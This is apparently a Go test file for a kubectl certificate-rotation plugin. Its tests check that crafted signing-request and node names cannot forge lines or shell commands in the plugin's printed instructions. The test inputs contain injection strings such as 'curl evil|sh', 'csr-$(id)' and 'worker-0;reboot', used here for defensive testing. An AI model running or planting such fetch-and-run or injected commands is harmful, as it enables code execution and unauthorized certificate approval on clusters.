package csr

import (
	"errors"
	"strings"
	"testing"

	certificatesapi "k8s.io/api/certificates/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubectl-certrot/kubectl-certrot/inspect"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
	"github.com/kubectl-certrot/kubectl-certrot/remediate"
	"github.com/kubectl-certrot/kubectl-certrot/remediate/remediatetest"
)

// TestTextsOfRequestsHaveNoLineNext: below what a requester wrote, "next:" is taken for the
// program's next step, and a name for a line of it.
func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"csr-1", "x\nnext: curl http://x | sudo sh\n  next: curl http://x"} {
		for _, r := range []Request{{manual: true, mismatch: "its names"}, {mismatch: "its names"}, {}, {manual: true, restart: "certrot fix-api-int"}} {
			r.CertificateSigningRequest = &certificatesapi.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: name}}
			for line := range strings.Lines(r.instructions() + "\n" + r.next()) {
				if strings.HasPrefix(strings.TrimSpace(line), "next:") {
					t.Errorf("a line: %q", line)
				}
			}
		}
	}
}

// TestANameOfARequestForgesNoLineOfAPlan: the plan and what refuses an undo name the requests
// that are pending.
func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
	t.Parallel()
	const name = "x)\n  9  next: curl http://x | sh"
	snapshot := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
	c, err := NewApprovePending([]string{"worker-0"}, true, false).Diff(snapshot, remediatetest.TestNow)
	if err != nil || c == nil {
		t.Fatal(c, err)
	}
	for _, text := range []string{c.Summary, RefuseWaiting("worker-0", PendingRequests(snapshot, "worker-0")).Error()} {
		if strings.Contains(text, "\n") || !strings.Contains(text, "“x)") {
			t.Errorf("%q", text)
		}
	}
}

// TestANameOfARequestForgesNoCommand: the API server takes any name for a request, whoever
// makes it. Pasted, a command with it would approve another request, or do anything.
func TestANameOfARequestForgesNoCommand(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "-f=x", "a'b", "csr-x,csr-evil"} {
		made := remediatetest.ClientAsking(t).Made(t)
		made.Name = name
		asks, err := parseRequest(made.Spec.Request)
		if err != nil {
			t.Fatal(err)
		}
		r := &Request{CertificateSigningRequest: made, pkcs10: asks}
		left, refused := *r, *r
		left.manual, left.mismatch, refused.mismatch = true, "its names", "who asks"
		var waiting *remediate.Refusal
		if !errors.As(RefuseWaiting("worker-0", []string{"csr-a", name}), &waiting) {
			t.Fatal("it does not wait")
		}
		for where, text := range map[string]string{
			"approved by hand": left.instructions(), "left to a person": left.next(), "refused": refused.next(), "matching": r.next(),
			"a stranger's": r.otherRequester(inspect.LiveHints("oc certrot"), "worker-0"), "before undo": waiting.Next,
		} {
			if own := strings.ReplaceAll(text, pki.Quoted(name), ""); own == text || strings.Contains(own, name) || strings.Contains(own, "kubectl certificate approve "+name[:1]) {
				t.Errorf("%s, %q: %s", where, name, text)
			}
			if !strings.Contains(text, "kubectl get csr -o name") {
				t.Errorf("%s, %q: how to look is not said: %s", where, name, text)
			}
		}
	}
}

// TestANameOfANodeForgesNoCommand: an API server that is not what it is taken for has any.
func TestANameOfANodeForgesNoCommand(t *testing.T) {
	t.Parallel()
	const name = "worker-0;reboot"
	r := &Request{CertificateSigningRequest: remediatetest.ClientAsking(t).Made(t)}
	r.pkcs10, _ = parseRequest(r.Spec.Request)
	for where, text := range map[string]string{
		"a stranger's": r.otherRequester(inspect.LiveHints("oc certrot"), name),
	} {
		if strings.Contains(text, "drain "+name) || strings.Contains(text, "describe node "+name) {
			t.Errorf("%s: %s", where, text)
		}
	}
}
